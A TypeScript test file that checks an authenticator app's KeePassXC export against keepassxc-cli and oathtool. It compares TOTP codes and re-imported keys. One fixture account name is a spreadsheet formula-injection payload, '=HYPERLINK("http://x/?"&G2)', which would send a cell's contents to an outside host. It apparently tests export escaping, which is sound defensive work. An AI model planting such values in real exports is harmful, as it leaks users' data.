// The links that go to KeePassXC, in KeePassXC itself: its codes are ours and oathtool's, and what it writes comes back.
// Its command line imports XML and no table, so the rows of the table are handed over as XML.
import { spawnSync } from 'node:child_process'
import { join } from 'node:path'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { keepassxc } from '../../src/export/keepassxc.ts'
import { keyText } from '../../src/export/label.ts'
import { keepassxc as importer } from '../../src/import/apps/keepassxc.ts'
import { type Account, STEAM_DIGITS } from '../../src/otp/account.ts'
import { formatOtpauthUri } from '../../src/otp/otpauth-uri.ts'
import {
  account,
  anyAccount,
  codeOf,
  fileOf,
  hasPython,
  independent,
  inFolder,
  keyHex,
  written,
} from '../export/kit.ts'
import { readWith } from '../import/kit.ts'

const PASSWORD = 'made up for this test'
const has = (program: string): boolean => spawnSync(program, ['--version']).status === 0
const wanting = [...['keepassxc-cli', 'oathtool'].filter((program) => !has(program)), ...(hasPython ? [] : ['python3'])]
const runs = wanting.length === 0 || process.env.CI === 'true'

/** Everything that KeePassXC is said to take, and twenty that were drawn. */
const ACCOUNTS: readonly Account[] = [
  account({ name: 'mama', issuer: 'Ügyfélkapu+', account: 'kiss anna', tags: ['család'], note: 'két\nsor "itt"' }),
  account({ name: 'kilenc', digits: 9, algorithm: 'SHA256' }),
  account({ name: 'öt', digits: 5 }),
  account({ name: 'perc', period: 60, algorithm: 'SHA512', digits: 8 }),
  account({ name: 'páratlan', secret: 'JBSWY3DPEHPK3PXPJ' }),
  account({ name: 'gőz', type: 'steam', digits: STEAM_DIGITS }),
  account({ name: 'gőz256', type: 'steam', digits: STEAM_DIGITS, algorithm: 'SHA256' }),
  account({ name: '=HYPERLINK("http://x/?"&G2)', account: '+36 20' }),
  ...fc
    .sample(anyAccount, { seed: 274, numRuns: 200 })
    .filter((one) => keepassxc.carry(one).taken)
    .slice(0, 20),
]

function cli(args: readonly string[]): string {
  const ran = spawnSync('keepassxc-cli', args, {
    input: `${PASSWORD}\n${PASSWORD}\n`,
    env: { ...process.env, QT_QPA_PLATFORM: 'offscreen', LC_ALL: 'C.UTF-8' },
  })
  if (ran.status !== 0) throw new Error(`keepassxc-cli ${args[0]} left with ${ran.status}: ${String(ran.stderr)}`)
  return String(ran.stdout)
}

const escaped = (text: string): string => text.replace(/[&<>]/g, (one) => `&#${one.charCodeAt(0)};`)

/** A database with an entry of this number for each link. */
function databaseOf(folder: string, links: readonly string[]): string {
  const uuid = (n: number): string => Buffer.from(n.toString(16).padStart(32, '0'), 'hex').toString('base64')
  const field = (key: string, value: string): string =>
    `<String><Key>${key}</Key><Value>${escaped(value)}</Value></String>`
  const entries = links.map(
    (link, i) => `<Entry><UUID>${uuid(i + 2)}</UUID>${field('Title', `${i}`)}${field('otp', link)}</Entry>`,
  )
  const root = `<Root><Group><UUID>${uuid(1)}</UUID><Name>Root</Name>${entries.join('')}</Group></Root>`
  const xml = `<?xml version="1.0" encoding="UTF-8"?><KeePassFile><Meta/>${root}</KeePassFile>`
  const [file = ''] = written(folder, [{ name: 'entries.xml', bytes: Buffer.from(xml) }])
  const database = join(folder, 'entries.kdbx')
  cli(['import', '-q', '-p', '-t', '100', file, database])
  return database
}

/** KeePassXC has no way to name a moment: asked again when the step changed in between. */
function codesAt(database: string, i: number, one: Account): { theirs: string; ours: string; seconds: number } {
  for (;;) {
    const before = Date.now()
    const theirs = cli(['show', '-q', '-t', database, String(i)]).trim()
    const ours = codeOf(one, before)
    if (ours === codeOf(one, Date.now())) return { theirs, ours, seconds: Math.floor(before / 1000) }
  }
}

function oathtool(one: Account, seconds: number): string {
  const key = keyText(one)
  const args = [`--totp=${one.algorithm.toLowerCase()}`, `--digits=${one.digits}`, `--time-step-size=${one.period}s`]
  const ran = spawnSync('oathtool', ['--base32', ...args, `--now=@${seconds}`, '-'], {
    input: `${key.padEnd(Math.ceil(key.length / 8) * 8, '=')}\n`,
  })
  return String(ran.stdout).trim()
}

describe.runIf(runs)(`KeePassXC${runs ? '' : ` (skipped: no ${wanting.join(', ')})`}`, () => {
  it('shows the codes that ukp and oathtool show, of every link in the table', async () => {
    const rows = independent<string[][]>('read_table.py', [], (await fileOf(keepassxc, ACCOUNTS)).bytes).slice(1)
    expect(rows).toHaveLength(ACCOUNTS.length)
    await inFolder(async (folder) => {
      const database = databaseOf(
        folder,
        rows.map((row) => row[6] ?? ''),
      )
      let compared = 0
      for (const [i, one] of ACCOUNTS.entries()) {
        const { theirs, ours, seconds } = codesAt(database, i, one)
        expect([i, theirs]).toEqual([i, ours])
        // oathtool knows neither Steam nor five or nine digits.
        if (one.type !== 'totp' || one.digits < 6 || one.digits > 8) continue
        expect([i, oathtool(one, seconds)]).toEqual([i, ours])
        compared++
      }
      expect(compared).toBeGreaterThan(10)

      const back = await readWith(importer, cli(['export', '-q', '--format', 'csv', database]))
      expect(back?.refused).toEqual([])
      const codes = new Map(
        back?.entries.map(({ account: one, name }) => [name ?? one.issuer, codeOf(account(one), 0)]),
      )
      expect(ACCOUNTS.map((_, i) => codes.get(String(i)))).toEqual(ACCOUNTS.map((one) => codeOf(one, 0)))
    })
  })

  it('would show wrong codes of the accounts that are left out', async () => {
    const left = [
      account({ type: 'hotp', counter: 1 }),
      account({ algorithm: 'SHA384' }),
      account({ algorithm: 'SHA224' }),
      account({ type: 'steam', digits: STEAM_DIGITS, period: 60 }),
    ]
    expect(left.map((one) => keepassxc.carry(one).taken)).toEqual(left.map(() => false))
    await inFolder((folder) => {
      const links = left.map((one) =>
        one.type === 'steam' ? `${formatOtpauthUri({ ...one, type: 'totp' })}&encoder=steam` : formatOtpauthUri(one),
      )
      const database = databaseOf(folder, links)
      for (const [i, one] of left.entries()) {
        const { theirs, ours } = codesAt(database, i, one)
        expect([i, theirs]).not.toEqual([i, ours])
      }
    })
  })

  it('takes every key for the same bytes', async () => {
    const file = await fileOf(keepassxc, ACCOUNTS)
    const back = await readWith(importer, file.bytes)
    expect(back?.entries.map(({ account: one }) => keyHex(one))).toEqual(ACCOUNTS.map(keyHex))
  })
})
